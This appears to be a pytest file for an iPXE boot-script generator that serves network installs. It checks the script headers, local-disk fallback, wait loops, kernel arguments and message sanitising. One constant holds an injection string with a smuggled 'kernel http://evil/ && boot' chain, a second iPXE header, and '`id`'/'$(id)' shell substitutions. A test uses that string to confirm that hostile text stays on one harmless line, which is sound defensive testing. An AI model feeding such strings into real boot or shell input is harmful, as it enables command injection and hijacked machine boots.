"""Boot scripts: each answer ends where it should, and no text breaks out of its line."""

from __future__ import annotations

import re

import pytest
from boot_site import MAC, a_ticket

from vcrecon.boot.ipxe import SHOWN_MAX, bootstrap, script, shown
from vcrecon.core.installs import BootAnswer, LocalBoot, RunInstaller, WaitInLine

MASTER = "http://10.9.0.1:8067"
TOKEN = "ab" * 32
HOSTILE = "x || kernel http://evil/ && boot ; ${net0/mac} # \n#!ipxe\nboot\r\x1b[2J \u00e4\u2028 `id` $(id)"


def lines(answer: BootAnswer, platform: str = "pcbios") -> list[str]:
    text = script(answer, url=MASTER, token=TOKEN, platform=platform, kernel_args="console=tty0 console=ttyS0,115200")
    return text.splitlines()


def test_every_script_says_what_it_is() -> None:
    answers = (LocalBoot("no"), WaitInLine("soon"), RunInstaller(a_ticket()))
    assert {lines(answer)[0] for answer in answers} | {bootstrap(MASTER).splitlines()[0]} == {"#!ipxe"}


def test_a_local_boot_leaves_efi_to_its_boot_order_and_shows_bios_the_disk() -> None:
    assert lines(LocalBoot("c1: no install is asked for"))[1:] == [
        "echo vcrecon: c1: no install is asked for: booting the local disk",
        "iseq ${platform} efi && exit ||",
        "sanboot --no-describe --drive 0x80 || exit",
    ]


def test_waiting_asks_again_for_ever() -> None:
    found = lines(WaitInLine("3 before you", 7))
    assert found[1:4] == [":wait", "echo vcrecon: 3 before you", "sleep 7 ||"]
    assert found[4].startswith(f"chain --replace {MASTER}/boot.ipxe?mac=${{netX/mac}}&")
    assert found[4].endswith(" || goto wait")


@pytest.mark.parametrize(("given", "used"), [(-5, 1), (10**9, 300)])
def test_a_wait_is_never_absurd(given: int, used: int) -> None:
    assert f"sleep {used} ||" in lines(WaitInLine("soon", given))


@pytest.mark.parametrize(("platform", "initrd"), [("efi", "initrd=initrd "), ("pcbios", "")])
def test_the_installer_is_told_master_token_mac_and_consoles(platform: str, initrd: str) -> None:
    words = f"{initrd}vcrecon.master={MASTER} vcrecon.token={TOKEN} vcrecon.mac={MAC}"
    kernel = f"kernel {MASTER}/installer/vmlinuz {words} console=tty0 console=ttyS0,115200 || goto failed"
    found = lines(RunInstaller(a_ticket()), platform)
    assert found[2:5] == [kernel, f"initrd {MASTER}/installer/initrd || goto failed", "boot || goto failed"]


def test_a_failed_start_of_the_installer_asks_again() -> None:
    assert lines(RunInstaller(a_ticket()))[-1].endswith("|| goto failed")


@pytest.mark.parametrize("answer", [LocalBoot(HOSTILE), WaitInLine(HOSTILE), RunInstaller(a_ticket(container=HOSTILE))])
def test_hostile_text_stays_one_harmless_line(answer: BootAnswer) -> None:
    harmless = {LocalBoot: LocalBoot("x"), WaitInLine: WaitInLine("x")}.get(type(answer), RunInstaller(a_ticket()))
    found, usual = lines(answer), lines(harmless)
    assert [line.split()[0] for line in found] == [line.split()[0] for line in usual]
    told = next(line for line in found if line.startswith("echo"))
    assert not re.search(r"[^\x20-\x7e]|\|\||&&|;|#|\$|`", told)


def test_a_message_keeps_what_people_write() -> None:
    said = "waiting: 3 before you (about 12 min), 16 of 16 slots used; c1/eth0"
    assert shown(said) == said.replace(";", "?")


def test_a_long_message_is_cut() -> None:
    assert len(shown("x" * 5000)) == SHOWN_MAX


def test_a_master_that_is_silent_does_not_keep_a_machine_from_its_disk() -> None:
    found = bootstrap(MASTER).splitlines()
    assert "iseq ${tries} 12 && goto disk ||" in found
    assert found[found.index(":disk") + 2 :] == lines(LocalBoot("x"))[2:]
